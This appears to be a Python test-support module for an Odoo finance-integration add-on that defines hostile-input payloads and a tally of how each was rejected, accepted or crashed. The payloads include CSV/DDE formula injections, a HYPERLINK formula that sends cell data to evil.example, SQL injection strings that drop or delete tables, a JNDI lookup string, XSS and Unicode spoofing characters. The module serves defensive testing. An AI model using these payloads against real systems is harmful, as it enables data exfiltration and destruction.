"""What the hostile-input tests share: the payloads, the loggers the engine
writes on purpose, and the tally of how each hostile input was answered."""

import logging
from collections import Counter
from pathlib import Path

_logger = logging.getLogger(__name__)

SUMMARY = "hostile input: %s tried, %s rejected cleanly, %s accepted, %s crashes"
MB = 1024 * 1024
SAMPLES = Path(__file__).resolve().parents[1] / "mappings" / "samples"
# what the engine logs on purpose for a message that fails or is retried
ENGINE_LOGGERS = (
    "odoo.addons.finance_integration_hub.models.fih_message_processing",
    "odoo.addons.finance_integration_hub.models.fih_message_queue",
    "odoo.addons.finance_integration_hub.models.fih_backend",
    "odoo.sql_db",
)
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1)",
    "@x",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'; DROP TABLE res_partner; --",
    "Robert'); DELETE FROM fih_message WHERE ('1'='1",
    '" OR ""="',
    "%(name)s %s {0} ${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\u202eevil.exe\u202cfdp.txt",  # right-to-left override
    "Acme\u200b\u200c\u200d\ufeffLtd",  # zero-width characters
    "\u05e9\u05dc\u05d5\u05dd \u0634\u0631\u0643\u0629 Ltd",  # Hebrew, Arabic
]
INJECTED_EMAILS = [
    "=1+2@evil.example",
    "+sum(1)@evil.example",
    "-2+3@evil.example",
    "'or'1'='1@evil.example",
]


def nested_json(depth):
    return "[" * depth + "]" * depth


class HostileTally:
    """Counts of one test class, logged once when the class is done."""

    @classmethod
    def _setup_tally(cls):
        cls.tally = Counter(tried=0, rejected=0, accepted=0, crashes=0)

    @classmethod
    def _log_tally(cls):
        tally = cls.tally
        _logger.info(
            SUMMARY,
            tally["tried"],
            tally["rejected"],
            tally["accepted"],
            tally["crashes"],
        )
